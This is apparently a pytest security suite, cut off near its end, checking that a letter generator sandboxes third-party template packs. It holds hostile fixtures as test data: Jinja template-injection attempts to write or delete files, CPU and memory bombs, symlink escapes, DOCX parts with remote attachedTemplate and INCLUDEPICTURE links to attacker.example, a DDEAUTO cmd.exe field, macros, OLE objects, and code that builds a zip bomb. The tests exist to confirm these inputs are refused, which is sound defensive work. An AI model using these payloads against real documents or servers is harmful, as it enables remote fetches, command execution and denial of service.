"""Strangers' template packs, written as attacks: a template sees plain data only, cannot
follow links out of its folder, cannot exhaust the machine, and a DOCX layout template cannot
make Word fetch anything, run macros or blow up in memory. And every value a template prints
arrives verbatim in every output of every kind, or the command fails."""

from __future__ import annotations

import io
import os
import re
import threading
import time
import tracemalloc
import zipfile
import zlib
from dataclasses import replace
from datetime import date, datetime, timedelta, timezone
from datetime import time as clock_time
from decimal import Decimal
from email import message_from_bytes, policy
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import pytest
from docx import Document

from letters import content, templating
from letters.case import Case, load_case
from letters.cjk import break_lines
from letters.content import (
    CARRIER_KINDS,
    COMPANIONS,
    KINDS,
    render_letter,
)
from letters.errors import InputError, LettersError, RenderError
from letters.fidelity import MESSAGE_PARTS, PRINTED, required_values
from letters.render.docx import render_docx
from letters.render.email import build_email
from letters.render.pdf import render_pdf
from letters.sandbox import MAX_SECONDS, Leaf, LimitError, Record
from tests.conftest import ROOT, SAMPLES, run
from tests.letter_fixtures import appears, pdf_text, without_page_labels

DAY = date(2026, 12, 24)
LATE = SAMPLES / "case-late-en.toml"
DOCX = ROOT / "templates" / "standard" / "docx" / "en.docx"


def pack(tmp_path: Path, body: str, subject: str = "S") -> Path:
    """Write a template pack whose English request has `body`; return its folder."""
    folder = tmp_path / "pack"
    (folder / "letters").mkdir(parents=True, exist_ok=True)
    (folder / "letters" / "request.en.j2").write_text(
        f"{{% block subject %}}{subject}{{% endblock %}}\n{{% block body %}}\n{body}\n"
        "{% endblock %}\n",
        encoding="utf-8",
    )
    return folder


# --- 1. templates see plain data only ------------------------------------------------------------

PLAIN = str | bool | int | float | Decimal | date | clock_time | timedelta | None | tuple | Record


def reachable(value: Any, path: str = "") -> list[tuple[str, Any]]:
    """Return every value inside a template context, with its path."""
    found = [(path, value)]
    if isinstance(value, Record):
        for name in value:
            found += reachable(value[name], f"{path}.{name}")
    elif isinstance(value, dict):
        for name, item in value.items():
            found += reachable(item, name)
    elif isinstance(value, tuple):
        for n, item in enumerate(value):
            found += reachable(item, f"{path}[{n}]")
    return found


def contexts() -> list[tuple[str, dict[str, Any]]]:
    case = load_case(LATE)
    found = [
        (f"{kind}.{language}", content.context(case, kind, language, DAY))
        for kind in (*KINDS, "complaint-ag")
        for language in ("en", "zh-CN")
    ]
    letter = render_letter(case, "complaint", "en", DAY)
    from letters.render.docx import layout_context

    found.append(("docx", {k: templating.inert(v, k) for k, v in layout_context(letter).items()}))
    return found


@pytest.mark.parametrize(
    ("name", "context"), contexts(), ids=lambda v: v if isinstance(v, str) else ""
)
def test_a_template_context_holds_plain_data_only(name: str, context: dict[str, Any]) -> None:
    for path, value in reachable(context)[1:]:
        assert isinstance(value, PLAIN | datetime), (path, type(value))
        if isinstance(value, datetime):
            assert value.tzinfo is None or type(value.tzinfo) is timezone, path
    if "case" in context:
        assert isinstance(context["case"].path, Record)  # the case file's Path is gone
        assert str(context["case"].path).endswith("case-late-en.toml")


ARGUMENTS = ("()", "(victim)", "(victim, 'pwned')", "(victim, victim)", "('pwned')")


def every_callable(context: dict[str, Any]) -> dict[tuple[type, str], str]:
    """Return, for each type of value a context holds (and what hangs off it, two steps
    deep), one path to it per public attribute: what a template could try to call."""
    seen: dict[tuple[type, str], str] = {}
    frontier = [(path, value) for path, value in reachable(context)[1:]]
    for _depth in range(2):
        following = []
        for path, value in frontier:
            for attribute in dir(value):
                if attribute.startswith("_") or (type(value), attribute) in seen:
                    continue
                seen[(type(value), attribute)] = path
                inner = getattr(value, attribute, None)
                if not callable(inner):
                    following.append((f"{path}.{attribute}", inner))
        frontier = following
    return seen


def test_a_template_cannot_read_write_or_delete_through_anything_it_holds(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    case_path = tmp_path / "case.toml"
    case_path.write_text(LATE.read_text(encoding="utf-8"), encoding="utf-8")
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me", encoding="utf-8")
    case = load_case(case_path)
    variables = content.context(case, "complaint", "en", DAY)
    variables["victim"] = str(victim)
    env = templating.environment([], content.filters(case, "en"))
    attempts = every_callable(variables)
    assert len(attempts) > 100  # str, Decimal, date and datetime methods at least
    called = 0
    for (_kind, attribute), path in sorted(attempts.items(), key=lambda item: item[1]):
        for arguments in ARGUMENTS:
            source = f"{{{{ {path}.{attribute}{arguments} }}}}"
            try:
                env.from_string(source).render(variables)
                called += 1
            except Exception:
                pass
    assert called > 50
    # Nothing was written, read into being, or deleted: the folder is as it was.
    assert sorted(p.name for p in tmp_path.iterdir()) == ["case.toml", "victim.txt"]
    assert victim.read_text(encoding="utf-8") == "keep me"
    assert case_path.read_text(encoding="utf-8") == LATE.read_text(encoding="utf-8")


def test_the_case_file_path_cannot_write_as_it_could_before(tmp_path: Path) -> None:
    victim = tmp_path / "case.toml"
    victim.write_text(LATE.read_text(encoding="utf-8"), encoding="utf-8")
    folder = pack(
        tmp_path,
        '{{ case.path.write_text("pwned") }}{{ case.path.unlink() }}{{ case.path.read_text() }}',
    )
    result = run("email", victim, "--templates", folder, "-o", tmp_path / "out")
    assert result.exit_code == 1
    assert result.stderr.startswith("Error: request.en.j2:3: template error: ")
    assert "has no attribute 'write_text'" in result.stderr
    assert victim.read_text(encoding="utf-8") == LATE.read_text(encoding="utf-8")
    assert not (tmp_path / "out").exists()


# --- 2. no links out of a template folder --------------------------------------------------------


def linked_pack(tmp_path: Path, how: str) -> Path:
    """Build a pack whose request template reaches a secret file by a link of kind `how`."""
    secret = tmp_path / "outside" / "letters" / "request.en.j2"
    secret.parent.mkdir(parents=True)
    secret.write_text(
        "{% block subject %}SECRET-SUBJECT{% endblock %}{% block body %}SECRET{% endblock %}"
    )
    folder = tmp_path / "pack"
    (folder / "letters").mkdir(parents=True)
    target = folder / "letters" / "request.en.j2"
    if how == "symlinked file":
        target.symlink_to(secret)
    elif how == "symlinked folder":
        (folder / "letters").rmdir()
        (folder / "letters").symlink_to(secret.parent)
    elif how == "hard link":
        os.link(secret, target)
    elif how == "included symlink":
        (folder / "letters" / "part.j2").symlink_to(secret)
        target.write_text(
            "{% block subject %}S{% endblock %}{% block body %}"
            '{% include "letters/part.j2" %}{% endblock %}'
        )
    elif how == "included hard link":
        os.link(secret, folder / "letters" / "part.j2")
        target.write_text(
            "{% block subject %}S{% endblock %}{% block body %}"
            '{% include "letters/part.j2" %}{% endblock %}'
        )
    return folder


@pytest.mark.parametrize(
    ("how", "message"),
    [
        ("symlinked file", "letters/request.en.j2: letters/request.en.j2 is a symbolic link"),
        ("symlinked folder", "letters/request.en.j2: letters is a symbolic link"),
        ("hard link", "letters/request.en.j2: the file has other names (hard links)"),
        ("included symlink", "letters/part.j2: letters/part.j2 is a symbolic link"),
        ("included hard link", "letters/part.j2: the file has other names (hard links)"),
    ],
)
def test_a_linked_template_is_refused(tmp_path: Path, how: str, message: str) -> None:
    folder = linked_pack(tmp_path, how)
    result = run("email", SAMPLES / "case-en.toml", "--templates", folder, "-o", tmp_path / "o")
    assert result.exit_code == 2, result.stderr
    assert result.stderr.startswith("Error: ") and message in result.stderr, result.stderr
    assert result.stderr.count("\n") == 1
    assert not (tmp_path / "o").exists()


def test_a_template_cannot_include_a_file_above_its_folder(tmp_path: Path) -> None:
    (tmp_path / "secret.j2").write_text("SECRET")
    folder = pack(tmp_path, '{% include "../secret.j2" %}')
    result = run("email", SAMPLES / "case-en.toml", "--templates", folder, "-o", tmp_path / "o")
    assert result.exit_code == 1
    assert result.stderr == "Error: template not found: ../secret.j2\n"


def test_an_oversized_template_is_refused(tmp_path: Path) -> None:
    folder = pack(tmp_path, "x" * (templating.MAX_TEMPLATE_BYTES + 1))
    result = run("email", SAMPLES / "case-en.toml", "--templates", folder, "-o", tmp_path / "o")
    assert (result.exit_code, result.stderr) == (
        2,
        "Error: letters/request.en.j2: the file is larger than the limit of 256 KB\n",
    )


def test_a_linked_docx_layout_template_is_refused(tmp_path: Path) -> None:
    folder = tmp_path / "pack"
    (folder / "docx").mkdir(parents=True)
    (folder / "docx" / "en.docx").symlink_to(DOCX)
    result = run("letter", SAMPLES / "case-en.toml", "--templates", folder, "-o", tmp_path / "o")
    assert result.exit_code == 2
    assert "docx/en.docx: docx/en.docx is a symbolic link" in result.stderr


# --- 3. bounded time, size and memory ------------------------------------------------------------

BOMBS = {
    "string repetition": '{{ "x" * 10**9 }}',
    "doubling with ~": '{% set ns = namespace(s="x") %}{% for i in range(64) %}'
    "{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s }}",
    "doubling with +": '{% set ns = namespace(s="x") %}{% for i in range(64) %}'
    "{% set ns.s = ns.s + ns.s %}{% endfor %}",
    "list repetition": "{{ (range(100000)|list) * 100000 }}",
    "printing shared strings": '{{ ["x" * 999999] * 99999 }}',
    "center": '{{ "x"|center(10**9) }}',
    "indent": '{{ ("x\\n" * 400000)|indent(900000) }}',
    "format filter": '{{ "%0999999999d"|format(1) }}',
    "printf": '{{ ("%s" * 90000) % (("x" * 999999,) * 90000) }}',
    "str.format": '{{ ("{0}" * 200000).format("x" * 999999) }}',
    "format width": '{{ "{:>999999999}".format(1) }}',
    "join": '{{ (["x" * 999999] * 99999)|join }}',
    "replace": '{{ "ab"|replace("", "x" * 999999) }}',
    "str.replace": '{{ "ab".replace("", "x" * 999999) }}',
    "wordwrap": '{{ ("x " * 100000)|wordwrap(1, wrapstring="y" * 999) }}',
    "tojson": '{{ (["<" * 999999] * 99999)|tojson }}',
    "batch": '{{ range(10)|batch(10**9, "x")|list }}',
    "ljust": '{{ "x".ljust(10**9) }}',
    "power": "{{ 2 ** 100000 }}",
    "squaring": "{% set ns = namespace(n=3) %}{% for i in range(100) %}"
    "{% set ns.n = ns.n * ns.n %}{% endfor %}",
    "lipsum": "{{ lipsum(n=10**6) }}",
    "many made values": '{{ range(100000)|map("string")|map("center", 999999)|join }}',
    "empty nested loops": "{% for i in range(100000) %}{% for j in range(100000) %}"
    "{% endfor %}{% endfor %}",
    "nested loops over strings": '{% for a in "x" * 100000 %}{% for b in "x" * 100000 %}'
    "{% endfor %}{% endfor %}",
    "nested output": "{% for i in range(100000) %}{% for j in range(100000) %}{{ j }}"
    "{% endfor %}{% endfor %}",
    "literal output": "{% for i in range(100000) %}{% for j in range(100000) %}LITERAL"
    "{% endfor %}{% endfor %}",
}
LIMITS = re.compile(
    r"the template (ran past its time limit \(processing time: 1 s\)"
    r"|made a value over its size limit \((1,000,000 characters|100,000 items|4096 bits)\)"
    r"|made more than its memory limit \(64 MB\)"
    r"|wrote more than its output limit \(8,000,000 characters\))$"
)


@pytest.mark.parametrize("bomb", BOMBS)
def test_a_template_bomb_fails_fast_with_bounded_memory(tmp_path: Path, bomb: str) -> None:
    folder = pack(tmp_path, BOMBS[bomb])
    case = load_case(SAMPLES / "case-en.toml")
    tracemalloc.start()
    cpu = time.thread_time()
    try:
        with pytest.raises(LimitError) as raised:
            render_letter(case, "request", "en", DAY, folder)
        used = time.thread_time() - cpu
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    message = raised.value.message
    assert re.match(r"(letters/)?request\.en\.j2(:\d+)?: ", message), message
    assert LIMITS.search(message), message
    assert used < MAX_SECONDS + 1.5, used  # processor time: the machine's load does not count
    assert peak < 150_000_000, peak


@pytest.mark.parametrize(
    ("block", "limit"),
    [
        ("subject", "a subject over its size limit (2,000 characters)"),
        ("body", "a letter over its size limit (250,000 characters)"),
    ],
)
def test_a_letter_too_long_to_mail_or_lay_out_is_refused_at_once(
    tmp_path: Path, block: str, limit: str
) -> None:
    # Within the rendering limits, a subject of a million characters took 23 s and 9 GB of
    # memory to fold into the email's header, and a body as long 78 s to lay out.
    huge = '{{ "x" * 1000000 }}'
    folder = pack(
        tmp_path, huge if block == "body" else "Body.", huge if block == "subject" else "S"
    )
    cpu = time.process_time()
    result = run("email", SAMPLES / "case-en.toml", "--templates", folder, "-o", tmp_path / "o")
    assert (result.exit_code, result.stderr) == (
        2, f"Error: letters/request.en.j2: the template made {limit}\n"
    )  # fmt: skip
    assert time.process_time() - cpu < MAX_SECONDS + 1.5
    assert not (tmp_path / "o").exists()


def test_a_word_wider_than_many_lines_is_cut_in_linear_time() -> None:
    # Each line cut from a long word measured all the rest again: a word of a million
    # characters took over a minute to lay out.
    word = "x" * 200_000
    cpu = time.process_time()
    lines = break_lines(word, 100.0, lambda text: sum(5.0 for _char in text))  # as fonts measure
    assert time.process_time() - cpu < 2
    assert [line for line, _gap in lines] == [word[n : n + 20] for n in range(0, len(word), 20)]


def test_a_time_bomb_is_stopped_in_a_server_thread_too(tmp_path: Path) -> None:
    folder = pack(tmp_path, BOMBS["empty nested loops"])
    case = load_case(SAMPLES / "case-en.toml")
    outcome: list[BaseException] = []

    def render() -> None:
        try:
            render_letter(case, "request", "en", DAY, folder)
        except BaseException as error:
            outcome.append(error)

    thread = threading.Thread(target=render)
    thread.start()
    thread.join(timeout=60)
    assert not thread.is_alive()
    assert isinstance(outcome[0], LimitError)
    assert "time limit" in str(outcome[0])


def test_a_bomb_fails_with_one_error_line_and_exit_2(tmp_path: Path) -> None:
    folder = pack(tmp_path, BOMBS["string repetition"])
    result = run("email", SAMPLES / "case-en.toml", "--templates", folder, "-o", tmp_path / "o")
    assert (result.exit_code, result.stderr) == (
        2,
        "Error: request.en.j2:3: the template made a value over its size limit "
        "(1,000,000 characters)\n",
    )


def test_ordinary_template_code_still_works(tmp_path: Path) -> None:
    folder = pack(
        tmp_path,
        "{% set ns = namespace(n=0) %}{% for e in events %}{% set ns.n = ns.n + 1 %}{% endfor %}"
        '{{ "%d events" % ns.n }}, {{ "{} & {}".format(account.carrier, holder.name) }},'
        ' {{ events|map(attribute="party")|select|join(", ") }},'
        ' {{ (account.carrier ~ "!")|center(30)|trim }}, {{ range(3)|list }},'
        ' {{ holder.address.city|upper }}, {{ "ab" * 3 }}, {{ 2 ** 10 }}',
    )
    case = load_case(SAMPLES / "case-en.toml")
    letter = render_letter(case, "request", "en", DAY, folder)
    assert (
        letter.paragraphs[0]
        == (
            f"{len(case.events)} events, {case.account.carrier} & {case.holder.name}, "
            + ", ".join(e.party for e in case.events if e.party)
            + f", {case.account.carrier}!, [0, 1, 2], {case.holder.address.city.upper()}, "  # type: ignore[union-attr]
            "ababab, 1024"
        )
    )


# --- 4. DOCX layout templates from a pack --------------------------------------------------------


def docx_with(changes: dict[str, bytes | None], source: Path = DOCX) -> bytes:
    """Return the built-in layout template with parts added, replaced or (None) removed."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            if entry.filename not in changes:
                new.writestr(entry, old.read(entry))
        for name, data in changes.items():
            if data is not None:
                new.writestr(name, data)
    return buffer.getvalue()


def rels(*relationships: str) -> bytes:
    body = "".join(relationships)
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns='
        f'"http://schemas.openxmlformats.org/package/2006/relationships">{body}</Relationships>'
    ).encode()


def letter_with_layout(tmp_path: Path, data: bytes):
    folder = tmp_path / "pack"
    (folder / "docx").mkdir(parents=True, exist_ok=True)
    (folder / "docx" / "en.docx").write_bytes(data)
    return run("letter", SAMPLES / "case-en.toml", "--templates", folder, "-o", tmp_path / "o")


REMOTE = "http://attacker.example/template.dotm"


def footnote(paragraph: bytes) -> bytes:
    """Return a footnotes part whose one footnote holds `paragraph`'s runs."""
    return (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:footnotes xmlns:w='
        b'"http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:footnote w:id="1">'
        b"<w:p>" + paragraph + b"</w:p></w:footnote></w:footnotes>"
    )


FOOTER = zipfile.ZipFile(DOCX).read("word/footer1.xml")


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        (  # the remote-template trick: Word fetches the attached template on opening
            {
                "word/_rels/settings.xml.rels": rels(
                    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
                    '2006/relationships/attachedTemplate"'
                    f' Target="{REMOTE}" TargetMode="External"/>'
                )
            },
            "docx/en.docx: the part word/_rels/settings.xml.rels points outside the document "
            f"(attachedTemplate: {REMOTE})",
        ),
        (  # a linked picture, fetched when the letter is opened
            {
                "word/_rels/document.xml.rels": rels(
                    '<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/'
                    '2006/relationships/styles" Target="styles.xml"/><Relationship Id="rId99" '
                    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"'
                    ' Target="\\\\attacker.example\\share\\x.png" TargetMode="External"/>'
                )
            },
            "docx/en.docx: the part word/_rels/document.xml.rels points outside the document "
            "(image: \\\\attacker.example\\share\\x.png)",
        ),
        (
            {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"},
            "docx/en.docx: the layout template contains macros (word/vbaProject.bin)",
        ),
        (
            {
                "[Content_Types].xml": zipfile.ZipFile(DOCX)
                .read("[Content_Types].xml")
                .replace(b"document.main+xml", b"document.macroEnabled.main+xml")
            },
            "docx/en.docx: the layout template contains macros ([Content_Types].xml)",
        ),
        (
            {"word/styles.xml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x/>'},
            "docx/en.docx: the part word/styles.xml declares a document type",
        ),
        (  # a field that fetches a picture from an address, its code split across two runs
            {
                "word/footer1.xml": FOOTER.replace(
                    b"</w:p>",
                    b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDE'
                    b'</w:instrText></w:r><w:r><w:instrText>PICTURE "http://attacker.example/p.png"'
                    b"</w:instrText></w:r></w:p>",
                    1,
                )
            },
            "docx/en.docx: the part word/footer1.xml has a INCLUDEPICTURE field",
        ),
        (
            {
                "word/footer1.xml": FOOTER.replace(
                    b"</w:p>",
                    b'<w:fldSimple w:instr="DDEAUTO c:\\windows\\system32\\cmd.exe"/></w:p>',
                    1,
                )
            },
            "docx/en.docx: the part word/footer1.xml has a DDEAUTO field",
        ),
        (  # docxtpl's tidying would take hours: each unclosed tag scans the paragraph
            {
                "word/footer1.xml": FOOTER.replace(
                    b"</w:p>", b"<w:r><w:t>" + b"{{ " * 40000 + b"</w:t></w:r></w:p>", 1
                )
            },
            "docx/en.docx: the part word/footer1.xml opens a template tag inside another",
        ),
        (  # the same, each `{{` closed by `%}`: 91 s of processor time in docxtpl
            {
                "word/footer1.xml": FOOTER.replace(
                    b"</w:p>", b"<w:r><w:t>" + b"{{ %}" * 4900 + b"</w:t></w:r></w:p>", 1
                )
            },
            "docx/en.docx: the part word/footer1.xml closes a template tag that is not open, or "
            "closes it with another kind's mark",
        ),
        (  # `-%}` never opened: docxtpl's clean-up scans from each to the end of the part
            {
                "word/footer1.xml": FOOTER.replace(
                    b"</w:p>", b"<w:r><w:t>" + b"-%}" * 80000 + b"</w:t></w:r></w:p>", 1
                )
            },
            "docx/en.docx: the part word/footer1.xml closes a template tag that is not open",
        ),
        (  # a field code written with character references, which Word reads as letters, in
            # a part docxtpl renders as text and never writes again (the footnotes)
            {
                "word/footnotes.xml": footnote(
                    b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>&#73;NCLUDE'
                    b'&#x50;ICTURE "http://attacker.example/p.png"</w:instrText></w:r>'
                )
            },
            "docx/en.docx: the part word/footnotes.xml has a INCLUDEPICTURE field",
        ),
        (  # … or in a CDATA section
            {
                "word/footnotes.xml": footnote(
                    b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText><![CDATA['
                    b'INCLUDETEXT "http://attacker.example/t"]]></w:instrText></w:r>'
                )
            },
            "docx/en.docx: the part word/footnotes.xml has a INCLUDETEXT field",
        ),
        (  # … or after another field, whose code ran into it (PAGEINCLUDEPICTURE)
            {
                "word/footer1.xml": FOOTER.replace(
                    b"</w:p>",
                    b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE'
                    b'</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r>'
                    b'<w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDEPICTURE '
                    b'"http://attacker.example/p.png"</w:instrText></w:r><w:r>'
                    b'<w:fldChar w:fldCharType="end"/></w:r></w:p>',
                    1,
                )
            },
            "docx/en.docx: the part word/footer1.xml has a INCLUDEPICTURE field",
        ),
        (  # … or behind a comment
            {
                "word/footnotes.xml": footnote(
                    b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText><!-- -->'
                    b' DATABASE \\d "http://attacker.example/db"</w:instrText></w:r>'
                )
            },
            "docx/en.docx: the part word/footnotes.xml has a DATABASE field",
        ),
        (  # … or in a simple field's attribute quoted with apostrophes
            {"word/footnotes.xml": footnote(b"<w:fldSimple w:instr='LINK Excel.Sheet x.xls'/>")},
            "docx/en.docx: the part word/footnotes.xml has a LINK field",
        ),
        (
            {
                "word/footer1.xml": FOOTER.replace(
                    b"</w:p>", b"<w:r><w:t>" + b"{{ x }}" * 6000 + b"</w:t></w:r></w:p>", 1
                )
            },
            "docx/en.docx: the part word/footer1.xml holds more than 5000 template tags",
        ),
        (
            {
                "word/_rels/footer1.xml.rels": rels(
                    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
                    '2006/relationships/oleObject" Target="embeddings/oleObject1.bin"/>'
                ),
                "word/embeddings/oleObject1.bin": b"MZ\x90\x00 a program",
            },
            "docx/en.docx: the part word/_rels/footer1.xml.rels embeds content Word would import,"
            " open or run (oleObject)",
        ),
    ],
    ids=[
        "attached template",
        "external picture",
        "vbaProject",
        "macro content type",
        "doctype",
        "INCLUDEPICTURE",
        "DDEAUTO",
        "unclosed tags",
        "tags closed by another mark",
        "tags closed and never opened",
        "field code of references",
        "field code in CDATA",
        "field after another",
        "field code behind a comment",
        "field attribute in apostrophes",
        "too many tags",
        "OLE object",
    ],
)
def test_a_dangerous_docx_layout_template_is_refused(
    tmp_path: Path, changes: dict[str, bytes | None], message: str
) -> None:
    result = letter_with_layout(tmp_path, docx_with(changes))
    assert result.exit_code == 2, result.stderr
    assert result.stderr.startswith(f"Error: {message}"), result.stderr
    assert result.stderr.count("\n") == 1
    assert not (tmp_path / "o").exists()


def zip_bomb(size: int, claimed: int | None = None) -> bytes:
    """Return a zip whose word/document.xml inflates to `size` bytes, its directory claiming
    `claimed` bytes (a lie) if given, with the checksum of that many bytes: read as the
    directory says, the part looks whole."""
    block = b"<w:p/>" * (1 << 17)
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    # A full flush makes each block's deflate data independent, so one compressed block
    # repeated is the deflate stream of the block repeated: a gigabyte costs nothing to make.
    once = squeeze.compress(block) + squeeze.flush(zlib.Z_FULL_FLUSH)
    deflated = once * (size // len(block)) + zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    says = size // len(block) * len(block) if claimed is None else claimed
    crc = zlib.crc32(block[:says]) if says <= len(block) else 0  # the real one: not computed
    name = b"word/document.xml"
    local = (
        b"PK\x03\x04" + (20).to_bytes(2, "little") + b"\0\0" + (8).to_bytes(2, "little")
        + b"\0\0\0\0" + crc.to_bytes(4, "little") + len(deflated).to_bytes(4, "little")
        + says.to_bytes(4, "little") + len(name).to_bytes(2, "little") + b"\0\0" + name
    )  # fmt: skip
    central = (
        b"PK\x01\x02" + (20).to_bytes(2, "little") * 2 + b"\0\0" + (8).to_bytes(2, "little")
        + b"\0\0\0\0" + crc.to_bytes(4, "little") + len(deflated).to_bytes(4, "little")
        + says.to_bytes(4, "little") + len(name).to_bytes(2, "little") + b"\0" * 12
        + (0).to_bytes(4, "little") + name
    )  # fmt: skip
    body = local + deflated
    end = (
        b"PK\x05\x06" + b"\0" * 4 + (1).to_bytes(2, "little") * 2
        + len(central).to_bytes(4, "little") + len(body).to_bytes(4, "little") + b"\0\0"
    )  # fmt: skip
    return body + central + end


@pytest.mark.parametrize("claimed", [None, 5000], ids=["honest directory", "lying directory"])
def test_a_docx_zip_bomb_fails_fast_with_bounded_memory(
    tmp_path: Path, claimed: int | None
) -> None:
    bomb = zip_bomb(1 << 30, claimed)  # 1 GB of XML
    assert len(bomb) < 2_000_000
    inflater = zlib.decompressobj(-15)  # it does inflate: over 60 MB from its first 100 KB
    assert len(inflater.decompress(bomb[47:100_000], 64 << 20)) > 60 << 20
    folder = tmp_path / "pack"
    (folder / "docx").mkdir(parents=True)
    (folder / "docx" / "en.docx").write_bytes(bomb)
    case = load_case(SAMPLES / "case-en.toml")
    letter = render_letter(case, "request", "en", DAY)
    tracemalloc.start()
    started = time.perf_counter()
    try:
        with pytest.raises(InputError) as raised:
            render_docx(letter, template_dir=folder)
        took = time.perf_counter() - started
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert raised.value.message.startswith("docx/en.docx: "), raised.value.message
    # An honest directory is refused for its sizes; a lying one when the part runs past
    # what the directory claims and its checksum fails.
    assert re.search("zip bomb|cannot be read", raised.value.message), raised.value.message
    assert took < 5, took
    assert peak < 50_000_000, peak


def test_an_oversized_docx_layout_template_is_refused(tmp_path: Path) -> None:
    result = letter_with_layout(tmp_path, b"PK" + b"\0" * (10 * 1024 * 1024))
    assert (result.exit_code, result.stderr) == (
        2,
        "Error: docx/en.docx: the file is larger than the limit of 10240 KB\n",
    )


@pytest.mark.parametrize(
    ("bomb", "limit"),
    [
        ("{{ date * 10**9 }}", "made a value over its size limit (1,000,000 characters)"),
        (
            "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
            "ran past its time limit (processing time: 1 s)",
        ),
    ],
    ids=["memory", "time"],
)
def test_a_bomb_in_a_docx_layout_template_fails_fast(tmp_path: Path, bomb: str, limit: str) -> None:
    with zipfile.ZipFile(DOCX) as archive:
        body = archive.read("word/document.xml").decode()
    assert "{{ date }}" in body
    data = docx_with({"word/document.xml": body.replace("{{ date }}", bomb).encode()})
    cpu = time.thread_time()
    result = letter_with_layout(tmp_path, data)
    assert time.thread_time() - cpu < MAX_SECONDS + 3
    assert (result.exit_code, result.stderr) == (2, f"Error: docx/en.docx: the template {limit}\n")


def docx_with_paragraph(paragraph: str) -> bytes:
    """Return the built-in layout template with a paragraph of raw XML first in its body."""
    document = zipfile.ZipFile(DOCX).read("word/document.xml")
    return docx_with(
        {"word/document.xml": document.replace(b"<w:body>", b"<w:body>" + paragraph.encode(), 1)}
    )


def text_run(text: str) -> str:
    """Return a paragraph of `text` as Word writes it: escaped for XML."""
    return "<w:p><w:r><w:t>" + escape(text, {'"': "&quot;"}) + "</w:t></w:r></w:p>"


@pytest.mark.parametrize(
    ("paragraph", "message"),
    [
        (  # a field keyword split by a tag: the file's own bytes hold no INCLUDEPICTURE
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDEPIC'
            '{{ "TURE" }} "http://attacker.example/x.png"</w:instrText></w:r><w:r>'
            '<w:fldChar w:fldCharType="end"/></w:r></w:p>',
            "Error: docx/en.docx: the part word/document.xml has a INCLUDEPICTURE field",
        ),
        (  # the same, through a filter and a concatenation
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
            '{{ ("inclu" ~ "detext")|upper ~ " http://evil/" }}</w:instrText></w:r><w:r>'
            '<w:fldChar w:fldCharType="end"/></w:r></w:p>',
            "Error: docx/en.docx: the part word/document.xml has a INCLUDETEXT field",
        ),
        (  # raw XML through `|safe`, typed in Word (so its XML escapes the tag's text)
            text_run(
                '{{ "</w:t></w:r><w:fldSimple w:instr=\\"INCLUDETEXT http://evil/\\"/>'
                '<w:r><w:t>"|safe }}'
            ),
            "Error: docx/en.docx:2: template error: No filter named 'safe'",
        ),
        (
            text_run(
                "{% autoescape false %}{{ '</w:t></w:r><w:fldSimple w:instr=\"INCLUDETEXT "
                "http://evil/\"/><w:r><w:t>' }}{% endautoescape %}"
            ),
            "Error: docx/en.docx:2: template error: this template may not turn escaping off",
        ),
        (  # escaped text turned back into markup by a method whose argument is not escaped
            text_run('{{ ("<b>"|e).translate({38: "<"}) }}'),
            "Error: docx/en.docx:2: template error: No filter named 'e'",
        ),
        (
            "<w:p><w:r><w:t>{% set x %}a&lt;b{% endset %}{{ x.translate({38: 60}) }}"
            "</w:t></w:r></w:p>",
            "Error: docx/en.docx: template error: access to attribute 'translate'",
        ),
    ],
    ids=["split field", "assembled field", "safe", "autoescape", "escape", "translate"],
)
def test_a_docx_layout_template_cannot_assemble_a_field_or_markup(
    tmp_path: Path, paragraph: str, message: str
) -> None:
    result = letter_with_layout(tmp_path, docx_with_paragraph(paragraph))
    # A refused document is bad input (2); a template that breaks the rules fails (1).
    assert result.exit_code == (2 if "field" in message else 1), result.stderr
    assert result.stderr.startswith(message), result.stderr
    assert result.stderr.count("\n") == 1
    assert not (tmp_path / "o").exists()


def test_a_docx_layout_template_may_still_escape_and_concatenate(tmp_path: Path) -> None:
    paragraph = text_run('{{ "<x> " ~ "!" }}{{ "Q"|lower }}')
    result = letter_with_layout(tmp_path, docx_with_paragraph(paragraph))
    assert result.exit_code == 0, result.stderr
    assert "<x> !q" in docx_text((tmp_path / "o" / "request.en.docx").read_bytes())


def test_a_plain_docx_layout_template_from_a_pack_still_works(tmp_path: Path) -> None:
    result = letter_with_layout(tmp_path, DOCX.read_bytes())
    assert result.exit_code == 0, result.stderr
    assert (tmp_path / "o" / "request.en.docx").is_file()


# --- 5. fidelity on every output of every kind ---------------------------------------------------

LONG = "Lorem ipsum dolor sit amet " * 12 + "終"
SUBSTITUTIONS = {
